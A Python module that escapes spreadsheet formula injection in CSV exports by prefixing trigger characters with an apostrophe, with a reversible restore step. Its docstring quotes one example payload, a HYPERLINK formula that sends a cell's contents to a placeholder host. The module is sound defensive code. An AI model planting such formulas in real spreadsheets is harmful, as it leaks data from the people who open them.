"""Spreadsheet formula injection: the one escape every CSV export applies, and its inverse.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel and LibreOffice when a CSV file is opened (OWASP "CSV injection"); a value
such as ``=HYPERLINK("http://x/?"&A1)`` would then run on the reader's machine. CSV exports
prefix such values with an apostrophe, which spreadsheets show as text. XLSX exports do not
need the escape: they write every user value as a text cell, never as a formula
(:mod:`canbo.spreadsheets`).

The escape is reversible, so that an exported CSV imports back unchanged: a value that starts
with an apostrophe is escaped too, and :func:`restore` removes exactly one apostrophe from a
value whose second character would have needed the escape. Plain numbers (``-5``, ``+84``)
are not escaped: they are not formulas, and numeric columns stay numeric.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_ESCAPED = (*TRIGGERS, "'")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?\Z")


def needs_escape(value: str) -> bool:
    """Whether :func:`neutralize` changes ``value``."""
    return value.startswith(_ESCAPED) and not _NUMBER.match(value)


def neutralize(value: str) -> str:
    """``value`` as a CSV cell that no spreadsheet evaluates (an apostrophe in front)."""
    return "'" + value if needs_escape(value) else value


def restore(cell: str) -> str:
    """The value :func:`neutralize` escaped into ``cell`` (other cells come back as they are)."""
    if cell.startswith("'") and needs_escape(cell[1:]):
        return cell[1:]
    return cell
